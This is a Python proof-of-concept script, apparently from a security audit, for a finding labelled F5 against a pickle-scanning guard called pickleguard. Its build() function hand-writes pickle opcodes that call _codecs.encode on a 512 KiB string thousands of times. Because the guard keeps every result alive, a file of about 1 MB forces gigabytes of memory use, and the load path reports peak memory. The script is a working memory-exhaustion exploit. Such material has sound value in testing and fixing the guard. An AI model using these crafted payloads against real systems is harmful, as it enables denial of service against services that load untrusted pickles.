"""F5: pickleguard's provenance keeps every object a ruled global built alive until the load
ends (provenance.rs: "kept alive here for the whole load"), even after the pickle POPped it. A
pickle that REDUCEs an allowed constructor through the memo and drops each result (bounded
memory in stock CPython) makes the guarded process hold all results at once: 6 bytes of pickle
per copy of a large argument. Here `_codecs.encode(text, "latin-1")` of a 512 KiB str,
repeated: a ~1 MB file needs ~N x 512 KiB of memory under the guard, ~1 MiB without.

Usage: python f5_provenance_keeps_everything.py build FILE [TIMES] ; ... load FILE
"""
import pickle
import resource
import struct
import sys
import time


def build(times, chars=512 * 1024):
    text = ("A" * chars).encode()
    return (
        b"\x80\x04c_codecs\nencode\n\x94"
        + b"X" + struct.pack("<I", len(text)) + text
        + b"\x8c\x07latin-1\x86\x94"
        + b"R0"
        + b"h\x00h\x01R0" * times
        + b"N."
    )


if __name__ == "__main__":
    if sys.argv[1] == "build":
        times = int(sys.argv[3]) if len(sys.argv) > 3 else 4000
        open(sys.argv[2], "wb").write(build(times))
    else:
        data = open(sys.argv[2], "rb").read()
        start = time.monotonic()
        pickle.loads(data)
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
        print(f"{len(data)} byte file: {time.monotonic() - start:.1f} s, peak RSS {peak} MiB", flush=True)
